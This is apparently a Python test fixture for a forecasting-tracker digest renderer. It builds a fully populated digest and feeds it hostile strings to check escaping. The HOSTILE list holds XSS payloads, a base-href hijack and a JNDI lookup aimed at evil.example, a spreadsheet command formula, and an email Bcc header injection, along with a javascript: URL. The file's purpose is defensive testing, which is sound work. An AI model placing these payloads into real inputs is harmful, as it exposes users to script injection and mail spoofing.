"""A digest made up by hand, as large and as hostile as wanted."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta

from questions.model import Group
from tests.report.voices import AREAS, INTERNAL, MARKET
from tracker.digest.content import (
    Charts,
    Closing,
    DataHealth,
    Digest,
    Dispute,
    Mover,
    OrderChange,
    OrderRow,
    Overdue,
    PointChange,
    Resolved,
    Said,
    SourceState,
    Standing,
    Subject,
    TrendNews,
)
from tracker.digest.period import period_at
from tracker.digest.render import mail_content
from tracker.mail.content import MailContent
from tracker.report.content import Gap, ReliabilityBin, ReliabilityReport

AT = datetime(2026, 11, 23, 6, tzinfo=UTC)
MISSING = {
    name: f"nothing about {name}"
    for name in ("movers", "disputes", "closing", "resolved", "overdue", "calibration", "trends")
}
HOSTILE = (
    "plain",
    "<script>document.title='owned'</script><img src=x onerror=alert(1)>",
    "</title></style></table><style>body{display:none}</style><base href='https://evil.example/'>",
    '" onmouseover="alert(1)" style="position:fixed;inset:0;background:url(https://evil.example/x)',
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example} =cmd|' /C calc'!A0",
    "=?UTF-8?Q?=0A?=Bcc: eve@evil.example\r\nBcc: eve@evil.example",
    "\u202egnirts sdrawkcab\u202c \u2066isolate\u2069 zero\u200bwidth\ufeff\u00ad \x1b[31m\x00",
    "هل سيحدث ذلك؟ 50% האם זה יקרה",
    "Z" + "\u0301\u0327\u0489" * 200 + "algo",
    "👩‍👩‍👧‍👦🏳️‍🌈" * 40,
    "W" * 10_000,
    "javascript:alert(1) data:text/html,<b>x</b> http://evil.example www.evil.example",
    '<svg onload=alert(1)><!--<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "\ud800 lone \udfff",
    "",
)


def subject(title: str, number: int = 0) -> Subject:
    url = f"https://www.metaculus.com/questions/{number}/" if number % 2 else "javascript:alert(1)"
    return Subject(title, "metaculus", str(number), url)


def digest(title: str = "Will it happen?", *, many: int = 2) -> Digest:
    """Every part filled, ``title`` wherever a platform's words can get, every list ``many`` long."""
    report = ReliabilityReport(
        "all", 40, 40, 0.181, (0.15, 0.21), 0.54, (0.45, 0.63), 0.3,
        (ReliabilityBin(0.0, 0.5, 25, 0.2, 0.16, (0.05, 0.3)), ReliabilityBin(0.5, 1.0, 15, 0.7, 0.6, None)),
    )  # fmt: skip
    order = tuple(
        OrderRow(
            area.key,
            area.name,
            area.group,
            {
                "internal": Standing(rank, 10, before=rank),
                "market": Standing(11 - rank, 10, before=10 - rank or 1),
            },
            Gap("AI control", "internal", 0.9, "market", 0.12),
        )
        for rank, area in enumerate(AREAS, start=1)
    )
    assert {row.group for row in order} == set(Group)
    series = TrendNews(
        "s", title, "https://metr.org/time-horizons/", AT, False,
        tuple(PointChange(title, title, "minutes" if i % 2 else title, 12.5 + i, 99.25 + i) for i in range(many)),
        many, many, 1, 2, 60, 128.4, 131.9,
    )  # fmt: skip
    health = DataHealth(
        tuple(SourceState(f"source{i}", AT, "stale", title) for i in range(many)),
        ("kalshi",),
        {"ok": 7, "not_permitted": 3},
        tuple((title, AT - timedelta(days=2), AT - timedelta(days=1), title) for _ in range(many)),
        {"manifold": 2},
        tuple(("manifold", title, title) for _ in range(many)),
        9,
        ((title, title),) * many,
    )
    return Digest(
        period=period_at(AT),
        voices=(("internal", 10, ""), ("market", 10, ""), ("panel", 0, title)),
        order=order,
        changes=(OrderChange("market", (("Interpretability", "AI control"),), (), (), (title,)),),
        movers=tuple(
            Mover(subject(title, i), title, 0.31, 0.472, 3.14 + i, 13, 41, 29, (title, "one trade"))
            for i in range(many)
        ),
        n_movers=many + 3,
        n_followed=120,
        n_before=119,
        disputes=tuple(
            Dispute("AI control", "Interpretability", "internal", 0.83, (0.7, 0.91), "market", 0.22, None, 6,
                    subject(title, i), "ord-x")
            for i in range(many)
        ),
        closing=tuple(Closing(subject(title, i), AT + timedelta(days=3), 0.66, 17) for i in range(many)),
        resolved=tuple(
            Resolved(subject(title, i), title, AT - timedelta(days=1), 1.0, (Said(title, 0.8, 0.04, 0.2231),) * many)
            for i in range(many)
        ),
        overdue=tuple(Overdue(subject(title, i), AT - timedelta(days=44), 44) for i in range(many)),
        records=(report, *(replace(report, name=title) for _ in range(many))),
        trends=(series,) * many,
        health=health,
        charts=Charts((INTERNAL, MARKET), AREAS, calibration=report),
        missing=MISSING,
        skipped=("2026-W46",),
        program_version="0.1.0",
    )  # fmt: skip


def quiet() -> Digest:
    """A week in which nothing happened."""
    return replace(
        digest(many=0), changes=(), movers=(), n_movers=0, resolved=(), trends=(), skipped=(), disputes=(),
        closing=(), overdue=(),
        health=DataHealth((SourceState("metr", AT, "ok"), SourceState("manifold", AT, "ok"))),
    )  # fmt: skip


def without_pictures(one: Digest) -> MailContent:
    """As a mail, without the time that drawing takes."""
    return mail_content(replace(one, charts=Charts()))
